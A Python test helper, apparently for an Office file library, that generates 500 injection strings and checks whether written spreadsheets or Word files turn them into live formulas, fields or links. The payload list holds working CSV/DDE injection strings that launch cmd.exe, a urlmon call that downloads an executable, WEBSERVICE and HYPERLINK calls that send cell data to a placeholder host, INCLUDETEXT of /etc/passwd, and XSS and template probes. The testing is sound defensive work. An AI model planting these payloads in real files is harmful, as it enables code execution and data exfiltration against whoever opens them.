"""Five hundred texts that would be run, opened or believed somewhere, and how to see whether one of them lives."""

import io
import re
import zipfile
from collections.abc import Iterator
from functools import cache
from itertools import islice, product

import openpyxl

from workbook.ooxml.book import open_book
from workbook.ooxml.cell import Cell

LEADS = (
    "",
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u3000=",
    "\uff1d",
    "'=",
    '"=',
    "==",
    "=+",
    "\x00=",
    "\ufeff=",
    "_x003D_",
    "_x0009_=",
)
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|'/c calc'!A0",
    'DDE("cmd";"/c calc";"x")',
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    'HYPERLINK("http://example.invalid/?"&A1,"点我")',
    'WEBSERVICE("http://example.invalid/"&A1)',
    'IMPORTXML("http://example.invalid","//a")',
    'EXEC("calc")',
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.invalid","a.exe",0,0)',
    "INDIRECT(\"'系统'!A1\")",
    "'file:///etc/passwd'#$passwd.A1",
    "_xlfn.CONCAT(A1:B9)",
    '"甲公司"',
    "http://example.invalid/a.exe",
    "mailto:a@example.invalid",
    "\\\\example.invalid\\share\\a.xlsx",
    "</t></si><si><t>乙公司",
    "]]><f>1+1</f><![CDATA[",
    "&quot;&lt;f&gt;1+1&lt;/f&gt;",
    "_x000D__x000A_=1+1",
    "\ud800甲\udfff",
    "\ufffe甲\uffff",
    "甲\x0b乙\x0c丙\x1b",
    "\u202e司公甲\u202c",
    "{=1+1}",
    '{DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}',
    '{ INCLUDETEXT "file:///etc/passwd" }',
    "<script>alert(1)</script>",
    "${7*7}{{7*7}}%s%n",
)


@cache
def payloads(count: int = 500) -> tuple[str, ...]:
    """That many texts, each once; a word in front of none, a number behind each tells it from the others."""
    every = (lead + body for lead, body in product(LEADS, BODIES))
    return tuple(islice(every, count))


def formulas(data: bytes) -> dict[str, str]:
    """Every formula of a book as its XML writes it, by part and cell: conditions, lists and names included."""
    found: dict[str, str] = {}
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            text = package.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/sheet"):
                found |= {
                    f"{name} {at}": what for at, what in re.findall(r'<c r="([A-Z]+\d+)"[^>]*><f[^>]*>([^<]*)', text)
                }
            if name.endswith(".rels"):
                found |= {f"{name} {n}": to for n, to in enumerate(re.findall(r'Target="([^"]*)" TargetMode', text))}
    return found


def openpyxl_formulas(data: bytes) -> set[str]:
    """The cells in which openpyxl sees a formula or a link out of the book."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (cell.hyperlink and cell.hyperlink.target)
    }


def our_formulas(data: bytes) -> set[str]:
    """The cells in which our own reader sees a formula."""
    return {at for at, cell in cells(data) if cell.is_formula}


def cells(data: bytes) -> Iterator[tuple[str, Cell]]:
    """Every cell of a book, by sheet and place."""
    book = open_book(data, "a.xlsx")
    for sheet in book.sheets:
        for (row, column), cell in book.cells(sheet).items():
            yield f"{sheet}!R{row}C{column}", cell


def fields_of_word(data: bytes) -> int:
    """How many fields (DDE, INCLUDETEXT, HYPERLINK …) and links out a Word document has."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        whole = "".join(
            package.read(name).decode("utf-8", "replace")
            for name in package.namelist()
            if name.endswith((".xml", ".rels"))
        )
    return len(re.findall(r"<w:instrText|<w:fldSimple|<w:hyperlink|TargetMode=\"External\"", whole))
